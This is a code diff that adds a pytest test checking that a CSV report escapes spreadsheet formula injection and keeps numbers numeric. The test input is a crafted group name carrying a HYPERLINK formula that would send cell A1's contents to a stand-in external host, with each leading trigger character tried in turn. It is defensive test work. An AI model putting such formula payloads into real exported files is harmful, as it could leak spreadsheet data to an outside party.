@@ -155,6 +155,17 @@ def test_csv_has_every_figure_of_every_group_once():
     assert {row["by"] for row in rows if row["group"]} == {"skill"}
 
 
+@pytest.mark.parametrize("sign", "=+-@\t\r")
+def test_csv_has_no_formula_and_numbers_stay_numbers(sign):
+    name = f'{sign}HYPERLINK("http://example.test/?"&A1;"1,2")'
+    document = FULL | {"groups": {name: FULL["groups"]["orders"], "a=b": EMPTY["all"]}}
+    rows = list(csv.reader(io.StringIO(csv_report(document), newline="")))[1:]
+
+    assert {row[1] for row in rows} == {"", f"'{name}", "a=b"}
+    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]
+    assert all(row[3] == "" or float(row[3]) >= 0 for row in rows)
+
+
 @pytest.mark.parametrize("document", [FULL, EMPTY, ODD], ids=["full", "empty", "odd names"])
 def test_the_page_is_one_file_without_a_script_or_an_address(document):
     text = html_report(document)
